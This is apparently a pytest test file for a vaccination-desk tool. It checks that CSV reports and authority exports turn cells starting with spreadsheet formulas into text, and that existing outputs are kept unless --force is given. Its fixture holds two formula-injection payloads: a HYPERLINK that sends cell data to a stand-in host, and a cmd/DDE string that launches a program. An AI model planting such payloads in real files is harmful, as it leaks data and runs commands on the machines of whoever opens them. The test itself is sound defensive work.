"""CSV written by the product cannot carry a live formula, and no output file is overwritten unasked.

A station whose site name and lot number are spreadsheet formulas (as someone could type them at
receipt, or as a hostile sync payload could carry them) exports both as text: every such cell starts
with `'`. `--force` is the only way to overwrite an existing report or export."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import text

from app.domain.spreadsheet import FORMULA_STARTS, neutralise
from app.services.authority_export import load_format
from app.simulation import simulate_day
from app.storage.engine import open_store
from tests.cli_support import vaxdesk
from tests.conftest import PASSPHRASE

DAY = date(2030, 3, 4)
HOSTILE_SITE = '=HYPERLINK("//e.x/?"&A1,"report")'
HOSTILE_LOT = "@SUM(1+1)*cmd|' /C calc'!A0"[:20]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    db = tmp_path_factory.mktemp("hostile") / "day.db"
    simulate_day(db, PASSPHRASE, persons=8, offline=True, seed=4, day=DAY)
    with open_store(db, PASSPHRASE) as store, store.write() as session:
        session.execute(text("UPDATE site SET name = :n"), {"n": HOSTILE_SITE})
        session.execute(text("UPDATE lot SET lot_number = :n || substr(id, -2)"), {"n": HOSTILE_LOT[:18]})
    return db


def _cells(path: Path, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")), delimiter=delimiter)
            for cell in row]


def _assert_no_formula(cells: list[str], *, expected: str) -> None:
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'" + expected in cells or any(c.startswith("'" + expected) for c in cells)


def test_every_csv_cell_that_could_start_a_formula_is_neutralised() -> None:
    for start in FORMULA_STARTS:
        assert neutralise(f"{start}1+2") == f"'{start}1+2"
    assert neutralise("Comirnaty") == "Comirnaty" and neutralise(-3) == -3 and neutralise(None) is None


def test_report_and_authority_export_write_formulas_as_text(hostile_db: Path, tmp_path: Path) -> None:
    report = vaxdesk("report", "daily", "--db", str(hostile_db), "--date", DAY.isoformat(),
                     "--csv", str(tmp_path / "r.csv"))
    assert report.returncode == 0, report.stderr
    _assert_no_formula(_cells(tmp_path / "r.csv", ";"), expected=HOSTILE_SITE)
    _assert_no_formula(_cells(tmp_path / "r.csv", ";"), expected=HOSTILE_LOT[:18])
    export = vaxdesk("export", "authority", "--db", str(hostile_db), "--date", DAY.isoformat(),
                     "--out", str(tmp_path / "a.csv"))
    assert export.returncode == 0, export.stderr
    _assert_no_formula(_cells(tmp_path / "a.csv", load_format("de").delimiter), expected=HOSTILE_LOT[:18])


def test_outputs_are_not_overwritten_without_force(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "a.csv"
    out.write_text("the earlier export\n")
    refused = vaxdesk("export", "authority", "--db", str(hostile_db), "--date", DAY.isoformat(), "--out", str(out))
    assert refused.returncode == 8 and "--force" in refused.stderr
    assert out.read_text() == "the earlier export\n"
    report = tmp_path / "r.pdf"
    report.write_bytes(b"keep")
    refused = vaxdesk("report", "daily", "--db", str(hostile_db), "--date", DAY.isoformat(), "--pdf", str(report))
    assert refused.returncode == 8 and report.read_bytes() == b"keep"
    forced = vaxdesk("export", "authority", "--db", str(hostile_db), "--date", DAY.isoformat(), "--out", str(out),
                     "--force")
    assert forced.returncode == 0, forced.stderr
    assert "the earlier export" not in out.read_text() and out.read_text().startswith("impfdatum")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "r.pdf"]  # no temporary files left
